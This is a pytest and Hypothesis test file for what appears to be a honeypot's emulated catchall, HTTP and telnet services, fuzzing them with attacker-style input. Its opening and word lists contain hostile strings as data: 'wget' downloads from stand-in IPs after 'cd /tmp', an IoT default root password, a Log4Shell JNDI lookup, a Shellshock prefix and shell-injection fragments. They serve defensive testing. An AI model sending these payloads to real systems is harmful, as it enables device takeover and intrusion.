@@ -1,0 +1,177 @@
+"""What holds for every room, whatever it pretends to be: nothing that a peer sends is a fault of ours, or costs much.
+
+A new room is tested here as soon as it has its row in ROOMS; at all of its stages as soon as `OPENINGS` says how one
+gets there.
+"""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
+
+from eudaemon.protocols import ROOMS, load
+from eudaemon.protocols._base import Ended, HalfClosed
+from eudaemon.testing.script import Table, visit
+from eudaemon.wire import Purse
+from eudaemon.world.host import Host
+from eudaemon.world.outside import Downloaded
+from eudaemon.world.seed import Seed
+
+HOST = Host.from_seed(Seed(b"test"))
+HELD_BYTES_MAX = 512 * 1024
+
+# What leads a room through its stages, in order; each piece ends where a new stage begins.
+OPENINGS: dict[str, tuple[bytes, ...]] = {
+    "catchall": (b"cd /tmp || cd /var/run; ".ljust(70), b"echo a > b\n", b"wget http://198.51.100.7/x\n"),
+    "http": (
+        b"POST /x ", b"HTTP/1.1\r\n", b"Host: a\r\nTransfer-Encoding: chunked\r\n", b"\r\n", b"3\r\n", b"a=b", b"\r\n",
+        b"0\r\n", b"\r\n", b"POST /cgi-bin/x HTTP/1.1\r\nContent-Length: 5\r\n\r\n", b"a=$(i",
+    ),
+    "telnet": (b"\xff\xfd\x01", b"root\r\n", b"xc3511\r\n", b"sh\n", b"echo -e '\\x41", b"'\n", b"wget http://a/b\n"),
+}  # fmt: skip
+# Of what a test sends at random, much is what these rooms listen to.
+WORDS = [
+    b"GET /shell?id HTTP/1.1\r\n\r\n", b"POST / HTTP/1.0\r\nContent-Length: 9\r\n\r\n", b"\r\n", b"\n", b"\0", b"\xff",
+    b"\xff\xfa", b"\xff\xf0", b"Content-Length: 3\r\n", b"Transfer-Encoding: chunked\r\n", b"ff;x\r\n", b"0\r\n\r\n",
+    b"root\r\n", b"wget http://1.2.3.4/x", b"`", b"$(", b"${jndi:ldap://a/b}", b"|sh\n", b"<<E\n", b"'", b'"',
+    b"() { :;};", b"exit\n",
+]  # fmt: skip
+
+SERVED = [(name, "tcp") for name in ROOMS] + [("catchall", "udp")]
+names = pytest.mark.parametrize("name", ROOMS)
+bounded = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+
+
+def talk(name: str, *, transport: str = "tcp", bytes_max: int = HELD_BYTES_MAX) -> Table:
+    room = load(name)(visit(host=HOST, transport=transport, purse=Purse(bytes_max)))
+    return Table(room).open()
+
+
+def opening(name: str) -> tuple[bytes, ...]:
+    return OPENINGS.get(name, ())
+
+
+def finish(table: Table) -> None:
+    """End the session as the driver does; then nothing may be owed."""
+    purse = table.room.visit.purse
+    assert 0 <= purse.bytes_taken <= purse.bytes_max
+    table.end()
+    assert 0 <= purse.bytes_taken <= purse.bytes_max
+    purse.close()
+    assert purse.bytes_taken == 0
+
+
+def told(table: Table) -> tuple[bytes, list[object], list[object], list[object], bool, str]:
+    return table.sent, list(table.facts), list(table.kept), list(table.wishes), table.over, table.fault
+
+
+messages = st.lists(st.binary(max_size=40) | st.sampled_from(WORDS), max_size=12)
+
+
+@pytest.mark.parametrize(("name", "transport"), SERVED)
+@bounded
+@given(pieces=messages, answers=st.lists(st.sampled_from(["ok", "failed", "partial"]), max_size=3), wait=st.booleans())
+def test_whatever_is_sent_is_no_fault_of_ours(
+    name: str, transport: str, pieces: list[bytes], answers: list[str], wait: bool
+) -> None:
+    table = talk(name, transport=transport)
+    for piece in pieces:
+        table.say(piece)
+        if wait:
+            table.wait(30)
+        if answers and table.wishes and not table.over:
+            table.answer(answers.pop(), b"#!/bin/sh\nid\n")
+    if transport == "udp":
+        assert len(table.sent) <= sum(map(len, pieces))
+    finish(table)
+
+
+@names
+@bounded
+@given(data=messages.map(b"".join), size=st.integers(1, 9))
+@example(data=b"".join(WORDS), size=1)
+def test_pieces_make_no_difference(name: str, data: bytes, size: int) -> None:
+    whole, pieces = talk(name), talk(name)
+    whole.say(data)
+    pieces.say(data, split=size)
+    assert told(whole) == told(pieces)
+    whole.wait(30)
+    pieces.wait(30)
+    finish(whole)
+    finish(pieces)
+    assert told(whole) == told(pieces)
+
+
+@names
+def test_every_byte_at_every_stage(name: str) -> None:
+    for stage in range(len(opening(name)) + 1):
+        for value in range(256):
+            table = talk(name)
+            for piece in opening(name)[:stage]:
+                table.say(piece)
+            assert not table.fault, f"the opening is no fault: {table.fault}"
+            table.say(bytes((value,)))
+            table.say(bytes((value, 13, 10)))
+            table.wait(30)
+            finish(table)
+
+
+@names
+def test_the_end_may_come_at_every_stage(name: str) -> None:
+    everything = b"".join(opening(name))
+    for end in range(len(everything) + 1):
+        for half in (True, False):
+            table = talk(name)
+            table.say(everything[:end])
+            if half:
+                table.tell(HalfClosed(table.at_s))
+                assert table.over or table.wishes, "a room that has nothing more to say hangs up"
+            table.tell(Ended(table.at_s))
+            finish(table)
+
+
+@names
+@pytest.mark.parametrize("filler", [b"a", b"\0", b"\xff", b" ", b"'", b"(", b"%"])
+def test_endless_data_without_a_line_end_costs_no_more_than_its_limit(name: str, filler: bytes) -> None:
+    for stage in range(len(opening(name)) + 1):
+        table = talk(name)
+        for piece in opening(name)[:stage]:
+            table.say(piece)
+        for _ in range(12):
+            table.say(filler * 65536)
+            assert table.room.visit.purse.bytes_taken <= HELD_BYTES_MAX
+            if table.over:
+                break
+        finish(table)
+
+
+@names
+def test_a_poor_purse_is_the_peers_fault_at_worst(name: str) -> None:
+    everything = b"".join(opening(name))
+    for bytes_max in (0, 1, 16, 100, 1000):
+        table = talk(name, bytes_max=bytes_max)
+        table.say(everything)
+        table.say(b"x" * 2000)
+        finish(table)
+
+
+@names
+def test_an_answer_may_come_to_whoever_asked(name: str) -> None:
+    table = talk(name)
+    for piece in opening(name):
+        table.say(piece)
+    table.wait(30)
+    while table.wishes:
+        wish = table.wishes[0].download
+        assert Downloaded(wish.url, "ok").url == wish.url
+        table.answer("refused")
+    finish(table)
+
+
+@pytest.mark.parametrize("name", ROOMS)
+def test_claims_of_any_first_bytes(name: str) -> None:
+    room = load(name)
+    for value in range(256):
+        for first in (bytes((value,)), bytes((value,)) * 600, b"GET /" + bytes((value,))):
+            assert room.claim(first) in (0, 1, 2)
